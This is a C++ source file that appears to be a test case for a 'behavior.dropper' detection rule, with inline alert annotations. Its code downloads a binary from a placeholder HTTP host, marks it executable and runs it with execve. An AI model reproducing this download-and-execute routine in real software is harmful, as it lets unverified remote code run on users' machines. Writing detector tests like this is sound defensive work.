// behavior.dropper in C++17: the agent downloads its next build with
// cpp-httplib, writes it with std::ofstream, makes it runnable with
// std::filesystem::permissions (owner_all | group_exec: execute bits
// replaced in) and runs it. The look-alike, safe_quarantine_download.cpp,
// removes the execute bits from what it downloads.
#include <filesystem>
#include <fstream>
#include <httplib.h>
#include <string>
#include <unistd.h>

namespace fs = std::filesystem;

static const char *const kNext = "/var/tmp/agent.next";

int main(int argc, char **argv, char **envp)
{
    (void)argc;
    httplib::Client cli("http://198.51.100.23:8080");
    auto res = cli.Get("/builds/latest/agent");
    if (!res || res->status != 200)
        return 1;
    {
        std::ofstream out(kNext, std::ios::binary | std::ios::trunc);
        out.write(res->body.data(), static_cast<std::streamsize>(res->body.size()));
    }
    fs::permissions(kNext, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec, // $ Alert[behavior.dropper]
                    fs::perm_options::replace);
    execve(kNext, argv, envp); // $ Alert[behavior.dropper]
    return 1;
}
